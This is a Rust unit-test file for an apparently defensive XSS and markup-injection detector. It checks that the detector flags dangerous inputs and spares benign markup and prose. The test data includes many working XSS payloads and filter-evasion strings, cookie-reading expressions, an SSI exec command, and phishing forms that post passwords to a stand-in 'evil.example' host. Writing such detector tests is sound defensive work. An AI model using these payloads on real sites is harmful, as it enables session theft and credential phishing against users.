use super::*;
use crate::inject::{ByteSet, Context, sample, sample_for};
use crate::trigger::Place;
use tidegate_graph::contract::field::Said;

#[test]
fn what_a_schema_expects_is_spared_unless_it_runs() {
    let found = |raw: &str, is: Kind| {
        let said = Said { is, by: String::new() };
        let lower = raw.to_ascii_lowercase();
        let bytes = ByteSet::of(raw.as_bytes());
        let mut text = Text::new(raw.as_bytes(), lower.as_bytes(), bytes, Place::Field, b"");
        text.context = Context::default().saying(Some(&said));
        (detect(&text).is_some(), text.nears().any(|near| near.spared))
    };
    let (frame, call) = ("<iframe src=\"https://example.org/map\"></iframe>", "run alert(1) to see it");
    assert_eq!(found(frame, Kind::Markup), (false, true));
    assert_eq!(found(frame, Kind::Prose), (true, false));
    assert_eq!(found(call, Kind::Prose), (false, true));
    for runs in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "'-alert(1)//",
    ] {
        assert!(found(runs, Kind::Markup).0 && found(runs, Kind::Prose).0, "{runs}");
    }
    assert!(sample(detect, frame) && sample(detect, call));
}

/// Too little by itself; enough where a page shows it.
#[test]
fn markup_that_people_send_as_well() {
    for text in ["<a href=\"https://x.example\">win</a>", "<img src=//x.example/p.png>", "<style a=b>"] {
        assert!(!sample(detect, text) && sample_for(detect, text, Class::Xss), "{text}");
    }
    for text in ["<b>one</b>", "x<y>z", "a <b and c> d = 3", "1 < 2"] {
        assert!(!sample_for(detect, text, Class::Xss), "{text}");
    }
}

#[test]
fn what_a_browser_would_run() {
    for text in [
        "<script>alert(1)</script>",
        "<form action=//evil.example>",
        "<form method=post action=\"https://evil.example/login\"><input type=password name=p></form>",
        "<form action='//evil.example'><input name=password></form>",
        "<ScRiPt src=//x>",
        "<svg/onload=confirm()//",
        "<img src=x onerror=alert(1)>",
        "\"onwheel=ead(1)",
        "<a href=javascript:alert(1)>x",
        "<iframe src=\"java sc ript:al ert()\">",
        "document[\"cookie\"]",
        "alert?.(document?.cookie)",
        "'-alert(1)//",
        "(alert)(1)",
        "prompt.call(null,1)",
        "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
        "<div style=\"width: expression(alert(1))\">",
        "<meta http-equiv=refresh content=0>",
        "<!--#exec cmd=\"ls\"-->",
        "+ADw-script+AD4-",
        "<x onpointerrawupdate=a(1)>",
        "<div datafld=b dataformatas=html>",
        "<xml id=x src=a.xml>",
        "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time>",
        "[1].find(alert)",
        "onerror=alert;throw 1",
        "<svg><use href='data:image/svg+xml,x#y'/></svg>",
        "<iframe src=\"https://x.example\" width=1 onload=a></iframe>",
        "<iframe srcdoc=x src=\"https://x.example\" width=1></iframe>",
        "x <script>alert(1)</script> y",
    ] {
        assert!(sample(detect, text), "{text}");
    }
}

#[test]
fn markup_and_prose_that_run_nothing() {
    for text in [
        "<p style=\"color:#333\">It's here: <a href=\"https://x.example/o/7?x=1\">track</a></p>",
        "x<y>z",
        "alert the cast!",
        "the cookie of the document",
        "h2<h1",
        "JavaScript: Basics of JavaScript Language",
        "<b>one</b> on=two",
        "<form action=\"/login\" method=\"post\"><input type=\"password\" name=\"p\"></form>",
        "<form action=\"https://lists.example/subscribe\" method=\"post\"><input name=\"mail\"></form>",
        "<form action=\"//lists.example/subscribe\"><input name=\"mail\"></form>",
        "a <form> needs an action, say action=//x",
        "const f = (a) => alert(a);",
        "1 < 2 && on = 3",
        "prompt (and friendly) service",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"8\"/></svg>",
        "confirm by mail",
        "fetch (the ball)",
        "window seat: 12A",
        "print(x)",
        "<iframe width=\"560\" src=\"https://www.example.com/embed/x\" allowfullscreen></iframe>",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
        "<link rel=\"stylesheet\" href=\"../a.css\">",
        "The <script> tag must be closed with </script>.",
        "Please alert (1) Ann and (2) Bob.",
        "What does alert() do?",
        "<item online=\"yes\" once=\"no\"/>",
    ] {
        assert!(!sample(detect, text), "{text}");
    }
}
